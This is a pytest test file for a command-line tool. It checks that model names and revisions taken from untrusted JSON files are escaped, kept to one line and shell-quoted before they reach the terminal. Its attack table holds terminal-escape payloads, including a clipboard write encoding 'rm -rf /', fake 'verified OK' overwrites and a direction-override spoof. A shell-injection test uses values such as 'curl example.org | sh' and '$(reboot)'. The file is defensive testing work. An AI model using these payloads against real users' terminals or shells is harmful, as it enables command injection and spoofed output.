"""Strings of a stranger's plan.json and lens.json, with the right hash, on their way to a terminal."""

import json
import logging
import re
import shlex
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from alens.cli import console, tables, watch
from alens.cli import progress_lines as lines
from alens.job.progress import Progress

from .. import documents
from ..outcomes import assert_one_line
from ..test_printable import works_a_terminal

ATTACKS = {
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "line above": "\x1b[1A\x1b[2Kverified OK",
    "this line": "\rverified OK",
    "C1": "\x9b2J",
    "line of its own": "demo\nstate: sealed and verified OK",
    "other line break": "demo\u2028verified OK",
    "direction": "\u202egnp.exe",
    "rich": "[red]demo[/red] [link=file:///etc/passwd]here[/link] :smile:",
    "half": "\udc9b",
}
attack = pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)


def assert_harmless(text: str) -> None:
    assert not [c for c in text if c != "\n" and works_a_terminal(c)]


@pytest.fixture(scope="module")
def their_cache(small: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Path(shutil.copytree(small, tmp_path_factory.mktemp("theirs") / "cache"))


@pytest.fixture(scope="module")
def their_lenses(demo_lenses: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Path(shutil.copytree(demo_lenses, tmp_path_factory.mktemp("theirs") / "lenses"))


def name_cache(store: Path, text: str) -> None:
    def change(body: dict[str, Any]) -> None:
        body["model"]["id"] = body["corpus"]["id"] = text

    documents.edit(store / "plan.json", change)


def name_lenses(lenses: Path, text: str) -> None:
    def change(body: dict[str, Any]) -> None:
        body["model"]["id"] = body["model"]["architecture"] = body["design"] = body["cache"]["plan"] = text

    documents.edit(lenses / "lens.json", change)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=20))
@example(ATTACKS["clipboard"])
@example(ATTACKS["line above"])
@example(ATTACKS["line of its own"])
def test_info_shows_any_name_on_one_line(
    run_alens: Any, their_cache: Path, their_lenses: Path, text: str
) -> None:
    for folder, rename in ((their_cache, name_cache), (their_lenses, name_lenses)):
        rename(folder, "demo")
        lines = run_alens("info", folder).stdout.count("\n")
        rename(folder, text)
        outcome = run_alens("info", folder)
        assert (outcome.code, outcome.stdout.count("\n")) == (0, lines)
        assert_harmless(outcome.stdout + outcome.stderr)
        as_json = run_alens("info", folder, "--json").stdout
        assert_harmless(as_json)
        assert text in json.loads(as_json)["model"]


@attack
def test_an_error_is_one_line_whatever_it_names(
    run_alens: Any, their_lenses: Path, tmp_path: Path, text: str
) -> None:
    """Lenses of a model of which nobody knows where it is; and a path that does not exist."""
    name_lenses(their_lenses, text)
    read = run_alens("read", their_lenses, "The man")
    for outcome in (read, run_alens("info", tmp_path / text)):
        assert_one_line(outcome, outcome.code)
        assert_harmless(outcome.stderr)
    assert read.code == (
        1 if text == ATTACKS["half"] else 2
    )  # half a character is not a string that JSON can hold


@pytest.mark.parametrize("revision", ["main; curl example.org | sh", "$(reboot)", "a'b", "\x1b[2J"])
def test_a_command_to_type_is_quoted(run_alens: Any, their_lenses: Path, revision: str) -> None:
    """What a stranger's lens.json calls a revision is one word of the shell."""
    name_lenses(their_lenses, "me/gpt2")
    documents.edit(their_lenses / "lens.json", lambda body: body["model"].update(revision=revision))
    outcome = run_alens("read", their_lenses, "The man")
    assert outcome.code == 2 and outcome.stderr.count("\n") == 1
    (typed,) = re.findall("`(hf download .*)` where", outcome.stderr)
    assert shlex.split(typed) == ["hf", "download", "me/gpt2", "--revision", console.printable(revision)]


@attack
@pytest.mark.parametrize("where", ["log", "terminal"])
def test_warnings_and_progress_are_one_line_each(
    where: str, text: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Escapes from the library, from reports of work and in rich's tables are shown; on a terminal, rich's own escapes stay."""
    monkeypatch.setattr(lines, "EARLY_S", 0.0)
    # pytest would keep the record, and processes of tests cannot send each other half a character
    monkeypatch.setattr(logging.getLogger("alens"), "propagate", False)
    monkeypatch.setenv("COLUMNS", "200")
    if where == "terminal":
        monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
        monkeypatch.setenv("TERM", "dumb")  # rich sends nothing of its own to such a terminal
    with watch.watching() as report:
        logging.getLogger("alens").warning("warning about %s", text)
        report(Progress(stage="fit", done=1, total=2, unit="steps", note=f"note {text}"))
    said = capsys.readouterr().err
    assert_harmless(said)
    (warning,) = [line for line in said.splitlines() if "warning about" in line]
    assert warning.rstrip() == f"warning about {console.printable(text)}"
    assert "\nverified OK" not in said and "\nstate" not in said


@attack
def test_tables_show_a_text_as_it_is(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    from rich.table import Table

    table = Table("name", title=text)
    table.add_row(text)
    tables.console(width=200).print(table, text)
    shown = capsys.readouterr().out
    assert_harmless(shown)
    assert text != ATTACKS["rich"] or shown.count(text) == 3


@attack
def test_json_keeps_its_bytes_and_its_meaning(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Only what json.dumps leaves to work a terminal is written otherwise: as JSON's own escape."""
    console.show_json({"é字": text})
    shown = capsys.readouterr().out
    assert_harmless(shown)
    assert json.loads(shown) == {"é字": text}
    if not any(works_a_terminal(c) for c in text if c > " "):
        assert shown == json.dumps({"é字": text}, indent=1, ensure_ascii=False) + "\n"
